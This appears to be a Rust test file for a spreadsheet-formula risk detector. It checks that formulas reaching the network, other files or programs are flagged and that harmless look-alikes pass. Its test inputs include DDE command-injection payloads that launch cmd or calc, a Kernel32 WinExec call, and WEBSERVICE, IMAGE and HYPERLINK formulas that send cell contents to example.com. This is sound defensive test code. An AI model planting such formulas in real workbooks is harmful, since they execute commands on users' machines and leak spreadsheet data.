//! Formulas that reach outside the workbook, and formulas that only look like it.

use deskhand_formula::risk::Reach::{self, Indirect, Link, Network, OtherFile, Program, UnknownFunction};
use deskhand_formula::risk::{outside_reach, outside_reach_with};

#[test]
fn formulas_that_reach_outside_are_named() {
    let cases: &[(&str, Reach)] = &[
        (r#"=WEBSERVICE("http://example.com/?"&A1)"#, Network),
        (r#"=_xlfn.WEBSERVICE("http://example.com")"#, Network),
        ("=webservice (A1)", Network),
        ("=IF(TRUE,1,WEBSERVICE(A1))", Network),
        (r#"=SUM(A1:A3)+IMAGE("https://example.com/a.png?"&B1)"#, Network),
        ("=_xlfn.IMAGE(A1)", Network),
        (r#"=STOCKHISTORY("MSFT",TODAY())"#, Network),
        (r#"=TRANSLATE(A1,"en","fr")"#, Network),
        ("=_xlfn._xlws.PY(0,1)", Network),
        (r#"=HYPERLINK("https://example.com/?d="&A1,"Open")"#, Link),
        ("=HYPERLINK(A1)", Link),
        (r##"=HYPERLINK("#"&A1)"##, Link),
        (r#"=RTD("my.server",,"topic")"#, Program),
        (r#"=CALL("Kernel32","WinExec","JCJ",A1,0)"#, Program),
        (r#"=REGISTER.ID("Kernel32","GetTickCount","J!")"#, Program),
        ("=cmd|'/C calc'!A0", Program),
        ("=cmd |'/C calc'!'A0'", Program),
        (r"=1+MSEXCEL|'..\..\..\Windows\System32\cmd.exe'!_x", Program),
        (r#"=EXEC("calc")"#, Program),
        (r#"=CUBEVALUE("conn","[Measures].[Sales]")"#, OtherFile),
        (r#"=CUBEMEMBER("conn","x")"#, OtherFile),
        (r#"=FILTERXML(A1,"//x")"#, OtherFile),
        ("=[1]Data!A1", OtherFile),
        ("=[Book2.xlsx]Data!A1", OtherFile),
        ("='[Book 2.xlsx]Data'!A1", OtherFile),
        (r"='C:\files\[Book.xlsx]Data'!$A$1", OtherFile),
        ("='https://example.com/[Book.xlsx]Data'!A1", OtherFile),
        (r"='\\server\share\Book.xlsx'!Total", OtherFile),
        ("=Book2.xlsx!Total", OtherFile),
        ("=SUM([1]Data!A:A,1)", OtherFile),
        (r#"=INDIRECT("A"&B1)"#, Indirect),
        ("=SUM(INDIRECT(A1))", Indirect),
        (r#"=BDP("IBM US Equity","PX_LAST")"#, UnknownFunction),
        (r#"=FDS(A1,"P_PRICE")"#, UnknownFunction),
        ("=PERSONAL.XLSB!Macro(A1)", OtherFile),
        ("=Data!Macro(A1)", UnknownFunction),
        ("=_xludf.MYFUNC(1)", UnknownFunction),
    ];
    for (formula, reach) in cases {
        let found = outside_reach(formula).unwrap_or_else(|| panic!("{formula} was let through"));
        assert_eq!(found.reach, *reach, "{formula}: {found}");
        assert!(found.to_string().contains('`'));
    }
}

#[test]
fn formulas_that_only_look_like_it_stay_inside() {
    let cases = [
        "=SUM(A1:A3)",
        r#"="WEBSERVICE("&A1"#,
        r#"="[Book.xlsx]Data!A1""#,
        r#"="cmd|x""#,
        "='WEBSERVICE (1)'!A1",
        "='Jan 1:Feb 1'!A1",
        "=Sales[@[Price per unit]]*Sales[[#This Row],[Qty]]",
        r##"=HYPERLINK("#Data!A1","Go")"##,
        "=XLOOKUP(A1,B:B,C:C)",
        r#"=IFERROR(VLOOKUP(A1,'Q1 2026'!A:D,4,FALSE),"none")"#,
        r#"=SUMIFS(Data!C:C,Data!A:A,$A2,Data!B:B,">"&B1)"#,
        "=LET(x,1,x+1)",
        r#"=GETPIVOTDATA("Sales",$A$3)"#,
        "",
    ];
    for formula in cases {
        assert_eq!(outside_reach(formula), None, "{formula}");
    }
}

#[test]
fn names_are_followed_to_what_they_hold() {
    let names = |name: &str| match name.to_ascii_lowercase().as_str() {
        "total" => Some("SUM(Data!A:A)".to_owned()),
        "leak" => Some("inner".to_owned()),
        "inner" | "sum" => Some("WEBSERVICE(A1)".to_owned()),
        "ring" => Some("ring+1".to_owned()),
        _ => None,
    };
    assert_eq!(outside_reach_with("=Total*2", &names), None);
    assert_eq!(
        outside_reach_with("=1+Leak", &names).map(|reason| reason.reach),
        Some(Network)
    );
    assert_eq!(
        outside_reach_with("=Leak(2)", &names).map(|reason| reason.reach),
        Some(Network)
    );
    assert_eq!(
        outside_reach_with("=Ring", &names).map(|reason| reason.reach),
        Some(Indirect)
    );
    assert_eq!(outside_reach_with("=SUM(A1)", &names), None);
}
